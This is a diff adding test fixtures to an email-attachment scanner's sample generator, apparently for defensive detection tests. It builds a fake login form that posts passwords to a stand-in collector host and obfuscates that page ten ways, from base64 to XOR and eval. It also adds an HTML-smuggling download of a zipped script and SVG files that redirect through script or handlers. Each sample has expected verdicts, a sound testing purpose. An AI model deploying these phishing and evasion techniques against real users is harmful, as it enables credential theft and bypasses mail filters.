@@ -110,8 +110,75 @@ def names_and_types():
     put("polyglot-zip-behind-pdf.twin-word", mail(part(PDF[:-7] + b"% PK\5\6 is how archives end\n%%EOF\n", "invoice.pdf", "application/pdf")), "!att.polyglot")
 
 
+LOGIN = ('<html><body><h1>Sign in to read the document</h1><form method="post" action="https://collect.example.net/p.php">'
+         '<input name="email" value="ann@example.jp"><input type="password" name="pw"><button>Open</button></form></body></html>')
+INVOICE = ('<!DOCTYPE html><html><head><title>Invoice 4711</title><style>body{font-family:sans-serif}</style></head><body><h1>Invoice 4711</h1>'
+           '<table><tr><td>Paper</td><td>12.00</td></tr></table><p>Thank you for your order. Please pay by 20 January to the account you know.</p>'
+           '<button onclick="window.print()">Print</button><script>document.write(new Date().getFullYear())</script></body></html>')
+TICKET = ('<html><body><h1>Your e-ticket</h1><p>Flight EX123, seat 12A</p><a href="https://www.airline.example/checkin">Check in</a>'
+          '<script src="https://www.airline.example/t.js"></script><script>document.write("<script src=\'https://stats.example.net/a.js\'><\\/script>")</script></body></html>')
+
+
+def coded(how):
+    page = LOGIN
+    data = base64.b64encode(page.encode()).decode()
+    if how == "atob":
+        return f'<script>document.write(atob("{data}"))</script>'
+    if how == "pieces":
+        parts = [data[i:i + 40] for i in range(0, len(data), 40)]
+        return "<script>var a='';" + "".join(f"a+='{p}';" for p in parts) + "document.body.innerHTML=window['atob'](a);</script>"
+    if how == "percent":
+        return "<script>document.write(unescape('" + "".join(f"%{b:02x}" for b in page.encode()) + "'))</script>"
+    if how == "codes":
+        return "<script>document.write(String.fromCharCode(" + ",".join(str(b) for b in page.encode()) + "))</script>"
+    if how == "hex":
+        return "<script>var h='" + page.encode().hex() + "',s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));document.write(s)</script>"
+    if how == "reversed":
+        return "<script>document.write('" + page[::-1].replace("'", "\\'") + "'.split('').reverse().join(''))</script>"
+    if how == "xor":
+        return "<script>var d=[" + ",".join(str(b ^ 42) for b in page.encode()) + "];document.write(d.map(function(x){return String.fromCharCode(x^42)}).join(''))</script>"
+    if how == "escapes":
+        return "<script>document.write('" + "".join(f"\\x{b:02x}" for b in page.encode()) + "')</script>"
+    if how == "array":
+        parts = [data[i:i + 50] for i in range(0, len(data), 50)]
+        return "<script>const p=[" + ",".join(f'"{x}"' for x in parts) + "];document.open();document.write(atob(p.join('')));document.close()</script>"
+    if how == "twice":
+        return f'<script>eval(atob("{base64.b64encode(f"document.write(decodeURIComponent(escape(atob(`{data}`))))".encode()).decode()}"))</script>'
+    raise ValueError(how)
+
+
+def pages():
+    quiet = ("!severity att.html-page caution", "!severity att.html-builds-page caution", "!severity att.html-builds-page adverse", "!att.html-form", "!class fraudulent")
+    found = ("severity att.html-builds-page adverse", "severity att.html-form adverse", "link attachment.built.form https://collect.example.net/p.php")
+    put("page-login", mail(part(LOGIN, "document.html", "text/html")), "att.html-page", "severity att.html-form adverse", "link attachment.html.form https://collect.example.net/p.php")
+    put("page-login-octets", mail(part(LOGIN, "document.shtml")), "att.html-page", "severity att.html-form adverse", "link attachment.html.form https://collect.example.net/p.php")
+    put("page-login-no-name", mail(part(LOGIN)), "severity att.html-form adverse")
+    put("page-login.twin-invoice", mail(part(INVOICE, "invoice-4711.html", "text/html")), "att.html-page", *quiet)
+    put("page-login.twin-ticket", mail(part(TICKET, "ticket.html", "text/html")), "att.html-page", *quiet, "link attachment.html.a https://www.airline.example/checkin")
+    for how in ("atob", "pieces", "percent", "codes", "hex", "reversed", "xor", "escapes", "array", "twice"):
+        put(f"page-built-{how}", mail(part(f"<html><body>{coded(how)}</body></html>", "document.html", "text/html")), *found)
+    put("page-leaves", mail(part("<html><script>var u='https://'+'collect.example.net'+'/s?'+'e=1';window.location.href=u;</script></html>", "voice.htm", "text/html")),
+        "severity att.html-page caution", "link attachment.script.location https://collect.example.net/s?e=1")
+    put("page-makes-file", mail(part('<html><script>var b=atob("' + base64.b64encode(zipped(("invoice.js", "WScript.Echo(1)"))).decode() + '");var n=new Blob([b]);'
+        'var a=document.createElement("a");a.href=URL.createObjectURL(n);a.download="invoice.zip";a.click();</script></html>', "invoice.html", "text/html")),
+        "severity att.html-builds-page adverse", "!att.html-form")
+    svg = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">{}</svg>'
+    put("svg-script", mail(part(svg.format('<script><![CDATA[window.location="https://collect.example.net/"+"v"]]></script>'), "voice.svg", "image/svg+xml")),
+        "severity att.svg-active adverse", "link attachment.script.location https://collect.example.net/v")
+    put("svg-foreign", mail(part(svg.format('<foreignObject width="100%" height="100%"><body xmlns="http://www.w3.org/1999/xhtml">' + LOGIN[12:-14] + "</body></foreignObject>"), "form.svg", "image/svg+xml")),
+        "severity att.svg-active adverse", "severity att.html-form adverse")
+    put("svg-animated-link", mail(part(svg.format('<a><animate attributeName="href" values="https://collect.example.net/"/><text>Open</text></a>'), "open.svg", "image/svg+xml")),
+        "severity att.svg-active adverse")
+    put("svg-handler", mail(part(svg.format("").replace("<svg ", '<svg onload="location.href=atob(\'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUubmV0L29u\')" '), "fax.svg", "image/svg+xml")),
+        "severity att.svg-active adverse", "link attachment.script.location https://collect.example.net/on")
+    put("svg-script.twin-diagram", mail(part(svg.format('<rect width="10" height="10"/><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Server</div></foreignObject><a href="https://www.sender.example/"><text>docs</text></a>'),
+        "diagram.svg", "image/svg+xml")), "!severity att.svg-active caution", "!severity att.svg-active adverse", "!class fraudulent")
+    put("svg-script.twin-logo", mail(part(svg.format('<path d="M0 0h10v10z"/>'), "logo.svg", "image/svg+xml")), "!att.svg-active", "!class fraudulent")
+
+
 def main():
     names_and_types()
+    pages()
     ROOM.mkdir(exist_ok=True)
     there = {p.name: p.read_bytes() for p in ROOM.iterdir() if p.is_file()}
     if "--check" in sys.argv:
